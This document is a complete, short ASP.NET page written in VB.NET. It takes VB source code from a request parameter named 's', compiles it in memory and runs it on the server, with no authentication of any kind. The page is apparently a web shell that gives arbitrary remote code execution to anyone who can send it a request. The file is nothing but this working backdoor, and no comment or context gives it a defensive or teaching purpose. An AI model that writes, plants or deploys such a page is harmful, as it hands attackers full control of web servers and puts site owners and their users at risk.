<%@ Page Language="VB" %>
<%@ Import Namespace="System.CodeDom.Compiler" %>
<script runat="server">
    Sub Page_Load(sender As Object, e As EventArgs)
        Dim src As String = Request.Item("s")
        If src Is Nothing Then Exit Sub
        Dim prov As CodeDomProvider = CodeDomProvider.CreateProvider("VisualBasic")
        Dim pars As New CompilerParameters()
        pars.GenerateInMemory = True
        pars.ReferencedAssemblies.Add("System.dll")
        Dim results As CompilerResults = prov.CompileAssemblyFromSource(pars, src)
        Dim asm As System.Reflection.Assembly = results.CompiledAssembly
        asm.EntryPoint.Invoke(Nothing, New Object() {New String() {}})
    End Sub
</script>
